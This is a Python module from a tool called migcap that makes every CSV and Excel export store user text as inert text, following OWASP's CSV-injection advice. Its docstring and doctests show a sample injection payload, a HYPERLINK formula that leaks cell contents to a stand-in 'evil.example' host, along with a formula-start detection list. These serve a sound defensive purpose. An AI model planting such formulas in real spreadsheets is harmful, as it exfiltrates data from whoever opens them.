"""The one writer of spreadsheet cells: every CSV and Excel file migcap writes puts user text in as text.

A text from a user — evidence ``=HYPERLINK("http://evil.example/?leak="&B2,"Click")``, a region name
from a scheme file — must never become a live formula in the spreadsheet someone opens. The rules, as
enforced here and used by every export (:class:`~migcap.table.Table` as CSV and Excel, ``migcap data
export``, the assessment workbook, the inventory workbook, the web application's downloads):

* **Excel**: every text is a typed string cell, never a formula or an error value, whatever it starts
  with. A text that starts like a formula also gets the *quote prefix* cell style, so that Excel keeps it
  text when someone edits the cell. Numbers, dates and booleans are written as such.
* **CSV** (OWASP's advice on CSV injection): a text cell that starts with ``=``, ``+``, ``-``, ``@``, a
  tab or a carriage return gets a leading ``'``. So that every text survives the round trip, apostrophes
  already in front of such a character count as part of the start: ``'=x`` is written ``''=x``.
  :func:`csv_value` takes the prefix off again; migcap's CSV readers call it on every cell.
* **Numbers are never prefixed**: a negative number is written ``-2.5``, not ``'-2.5``.
* A text that an Excel cell cannot hold (longer than 32,767 characters, or with characters XML cannot
  carry: control characters other than tab and line breaks, U+FFFE, U+FFFF, lone surrogates) is refused
  with a :class:`~migcap.errors.MigcapError` naming the sheet, row and column — never cut short silently.

Examples
--------
>>> csv_text('=HYPERLINK("http://evil.example/")'), csv_text("-12"), csv_text("Kenya")
('\\'=HYPERLINK("http://evil.example/")', "'-12", 'Kenya')
>>> csv_value(csv_text("'=x")) == "'=x" and csv_value(csv_text("@SUM(A1)")) == "@SUM(A1)"
True
>>> csv_cell(-2.5), csv_cell("-2.5")
('-2.5', "'-2.5")
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

from migcap.errors import MigcapError
from migcap.text import format_number

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

    from migcap.table import Table

__all__ = [
    "FORMULA_START",
    "MAX_CELL_CHARS",
    "append_row",
    "csv_cell",
    "csv_text",
    "csv_text_sql",
    "csv_value",
    "looks_like_formula",
    "to_csv",
    "to_xlsx",
]

#: The characters a spreadsheet reads as the start of a formula (OWASP's list).
FORMULA_START = frozenset("=+-@\t\r")
#: The longest text an Excel cell holds.
MAX_CELL_CHARS = 32_767
# What XML 1.0 (and so an .xlsx file) can hold: tab, line feed, carriage return and U+0020 on, without
# the surrogates and U+FFFE, U+FFFF.
_CSV_SPECIAL = re.compile('[,"\r\n]')
_NOT_IN_XML = re.compile("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def looks_like_formula(text: str) -> bool:
    """Whether a text starts like a formula: with a formula character, after any apostrophes.

    >>> [looks_like_formula(t) for t in ("=1+1", "'+1", "1-2", "", "'")]
    [True, True, False, False, False]
    """
    return text.lstrip("'")[:1] in FORMULA_START and text.lstrip("'") != ""


def csv_text(text: str) -> str:
    """A text as a CSV cell: with a leading ``'`` if it starts like a formula (see the module's rules)."""
    return "'" + text if looks_like_formula(text) else text


def csv_value(cell: str) -> str:
    """A CSV cell as read, with the ``'`` that :func:`csv_text` added taken off (the exact inverse).

    >>> csv_value("'=1+1"), csv_value("'quoted'"), csv_value("''-x")
    ('=1+1', "'quoted'", "'-x")
    """
    return cell[1:] if cell.startswith("'") and looks_like_formula(cell) else cell


def csv_cell(value: Any) -> str:
    """Any value as a CSV cell: a text by :func:`csv_text`, a number by :func:`~migcap.text.format_number`
    (never prefixed), missing values empty."""
    if isinstance(value, str):
        return csv_text(value)
    return format_number(value)


def _csv_field(cell: str) -> str:
    # quoted if it holds a comma, a quote or a line break of either kind (Python's csv module, with "\n"
    # as the line end, would leave a lone "\r" unquoted and so split the row when it is read back)
    return '"' + cell.replace('"', '""') + '"' if _CSV_SPECIAL.search(cell) else cell


def _csv_line(cells: Sequence[Any]) -> str:
    fields = [_csv_field(csv_cell(v)) for v in cells]
    return (",".join(fields) if fields != [""] else '""') + "\n"


def to_csv(columns: Sequence[Any], rows: Iterable[Sequence[Any]]) -> str:
    """CSV text (RFC 4180 quoting, ``\\n`` line ends): a header row, then the rows, every cell by
    :func:`csv_cell`."""
    return _csv_line(columns) + "".join(_csv_line(r) for r in rows)


def csv_text_sql(column: str) -> str:
    """The SQL (DuckDB) of a text column as a CSV cell by the rule of :func:`csv_text`, for exports that the
    database writes itself; ``column`` is a quoted column name.

    >>> "'''' ||" in csv_text_sql('"name"')
    True
    """
    starts = ", ".join(f"chr({ord(c)})" for c in sorted(FORMULA_START))
    return (f"CASE WHEN left(ltrim({column}, ''''), 1) IN ({starts}) THEN '''' || {column} "
            f"ELSE {column} END")


def _where(ws: Worksheet, row: int, col: int) -> dict[str, Any]:
    from openpyxl.utils import get_column_letter

    return {"sheet": ws.title, "row": row, "column": get_column_letter(col)}


def append_row(ws: Worksheet, values: Sequence[Any]) -> None:
    """Append a row to an openpyxl worksheet: texts as typed string cells, numbers as numbers.

    ``None`` and NaN are empty cells. Raises :class:`~migcap.errors.MigcapError` (with the sheet, row and
    column) for a text an Excel cell cannot hold.
    """
    from openpyxl.cell import Cell

    row_no = ws._current_row + 1          # where openpyxl's append puts the row (for messages)
    cells: list[Any] = []
    for col, v in enumerate(values, start=1):
        if isinstance(v, float) and v != v:
            cells.append(None)
            continue
        if not isinstance(v, str):
            cells.append(v)
            continue
        if len(v) > MAX_CELL_CHARS:
            raise MigcapError(f"a text of {len(v):,} characters does not fit in an Excel cell "
                              f"(at most {MAX_CELL_CHARS:,})", **_where(ws, row_no, col),
                              hint="export csv or json")
        bad = _NOT_IN_XML.search(v)
        if bad:
            raise MigcapError(f"the text holds a character that an Excel file cannot "
                              f"({ord(bad.group()):#06x})", value=v[:60], **_where(ws, row_no, col),
                              hint="export csv or json")
        cell = Cell(ws)
        cell._value = v          # bypass openpyxl's guessing: a text starting with '=' would become a formula
        cell.data_type = "s"
        if looks_like_formula(v):
            cell.quotePrefix = True
        cells.append(cell)
    ws.append(cells)


def to_xlsx(table: Table) -> bytes:
    """An Excel workbook: the data sheet, then a sheet with title, sources and notes.

    Texts are typed string cells, never formulas (:func:`migcap.sheets.append_row`)."""
    import io

    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook()
    ws = wb.active
    ws.title = "data"
    append_row(ws, table.columns)
    for cell in ws[1]:
        cell.font = Font(bold=True)
    for row in table.rows:
        append_row(ws, row)
    ws.freeze_panes = "A2"
    about = wb.create_sheet("about")
    append_row(about, ["title", table.title])
    for s in table.sources:
        append_row(about, ["source", s])
    for n in table.notes:
        append_row(about, ["note", n])
    for c, u in table.units.items():
        append_row(about, [f"unit of {c}", u])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
